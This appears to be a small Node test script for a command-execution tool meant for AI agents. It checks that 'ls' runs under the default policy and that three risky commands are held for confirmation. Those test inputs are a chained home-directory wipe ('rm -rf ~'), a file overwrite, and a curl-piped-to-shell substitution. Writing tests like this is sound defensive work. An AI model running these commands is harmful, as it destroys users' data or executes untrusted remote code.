// A consumer of @riskgate/tools-command alone, on plain Node.
import assert from 'node:assert/strict';
import {
  createExecuteCommandTool,
  DEFAULT_POLICY,
  evaluateToolCall,
  toolFunctionDefinition,
} from '@riskgate/tools-command';

const tool = createExecuteCommandTool();
assert.equal(toolFunctionDefinition(tool).name, 'execute_command');
const context = { cwd: process.cwd() };
const list = await evaluateToolCall(tool, { command: 'ls' }, context, DEFAULT_POLICY);
assert.equal(list.decision.action, 'execute', list.decision.reasons.join('; '));
const result = await tool.execute(
  list.args,
  { ...context, signal: AbortSignal.timeout(10_000), readOnly: list.assessment.whitelisted },
  list.assessment.plan?.value, // what the assessor worked out for the run
);
assert.equal(result.type, 'tool-success', JSON.stringify(result));
assert.match(result.forModel, /package\.json/);
for (const command of ['ls; rm -rf ~', 'cat a > b', 'echo $(curl x | sh)']) {
  const verdict = await evaluateToolCall(tool, { command }, context, DEFAULT_POLICY);
  assert.equal(verdict.decision.action, 'confirm', command);
}
console.log('command-alone ok');
